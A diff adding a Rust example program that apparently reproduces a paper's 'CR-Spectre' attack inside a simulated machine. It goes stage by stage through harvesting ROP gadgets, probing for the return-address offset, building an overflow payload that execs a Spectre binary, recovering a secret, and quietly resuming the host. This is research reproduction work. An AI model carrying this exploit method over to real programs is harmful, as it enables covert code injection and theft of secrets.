@@ -1,0 +1,78 @@
+//! The CR launch vector: hijack a benign MiBench host with a
+//! buffer-overflow ROP chain and inject the Spectre binary (Figure 1 /
+//! Listing 1 of the paper).
+//!
+//! Shows each stage explicitly: gadget harvest, frame-offset discovery by
+//! crash probing, payload layout, delivery, and the stealthy resume of
+//! the host after the secret is gone.
+//!
+//! ```sh
+//! cargo run --release --example rop_injection
+//! ```
+
+use cr_spectre::rop::exploit::probe_ret_offset;
+use cr_spectre::rop::{Chain, PayloadBuilder, Scanner};
+use cr_spectre::sim::config::MachineConfig;
+use cr_spectre::sim::cpu::Machine;
+use cr_spectre::sim::isa::Reg;
+use cr_spectre::spectre::{build_spectre_image, SpectreConfig};
+use cr_spectre::workloads::host::{vulnerable_host, HostOptions, SECRET, SECRET_SYMBOL};
+use cr_spectre::workloads::mibench::Mibench;
+
+fn main() {
+    println!("== ROP-injected CR-Spectre, stage by stage ==\n");
+
+    // 1. The victim: an Algorithm-1 host around bitcount.
+    let host = vulnerable_host(Mibench::Bitcount50M, HostOptions::default());
+    let mut machine = Machine::new(MachineConfig::default());
+    let loaded = machine.load(&host.image).expect("host loads");
+    println!("[1] host `{}` loaded at {:#x} (DEP on: stack is non-executable)", host.image.name, loaded.base);
+
+    // 2. Register the attack binary the chain will exec.
+    let secret_addr = loaded.addr(SECRET_SYMBOL);
+    machine.register_image(build_spectre_image(&SpectreConfig::new(
+        secret_addr,
+        SECRET.len() as u32,
+    )));
+    println!("[2] spectre binary registered; secret known to be at {secret_addr:#x}");
+
+    // 3. GDB-style gadget hunt over the host's executable pages.
+    let gadgets = Scanner::default().scan_image(&machine, &loaded);
+    println!("[3] gadget scan: {} RET-terminated sequences, e.g.:", gadgets.len());
+    for gadget in gadgets.iter().take(4) {
+        println!("      {gadget}");
+    }
+
+    // 4. Find the buffer→return-address offset by crash probing.
+    let offset = probe_ret_offset(&machine, loaded.entry, 256).expect("host is vulnerable");
+    println!("[4] cyclic-pattern probe: return address {offset} bytes into the buffer");
+
+    // 5. Build the Listing-1 payload: padding + chain + binary name.
+    let buffer_addr = machine.initial_sp() - 8 - u64::from(host.frame_size);
+    let name_addr = buffer_addr + offset as u64 + 4 * 8;
+    let mut chain = Chain::new(&gadgets);
+    chain.set_reg(Reg::R1, name_addr).expect("pop r1 gadget");
+    chain.invoke(loaded.addr("sys_exec"));
+    chain.resume(loaded.addr("host_continues"));
+    let mut payload = PayloadBuilder::new(offset).build(chain.words());
+    payload.extend_from_slice(b"spectre\0");
+    println!(
+        "[5] payload: {} bytes = {} padding + {} chain words + name string",
+        payload.len(),
+        offset,
+        chain.words().len()
+    );
+
+    // 6. Deliver as argv[1] and run.
+    machine.start_with_arg(loaded.entry, &payload);
+    let outcome = machine.run();
+    let recovered = machine.take_stdout();
+    println!("[6] host run finished: {:?}", outcome.exit);
+    println!("    injections: {:?} (cycle spans)", machine.injection_spans());
+    println!("    host workload checksum r11 = {:#x} (host resumed and computed correctly:",
+        machine.reg(Reg::R11));
+    println!("    expected {:#x})", Mibench::Bitcount50M.expected_checksum());
+    println!("\nstolen secret: {:?}", String::from_utf8_lossy(&recovered));
+    assert_eq!(recovered, SECRET);
+    assert_eq!(machine.reg(Reg::R11), Mibench::Bitcount50M.expected_checksum());
+}
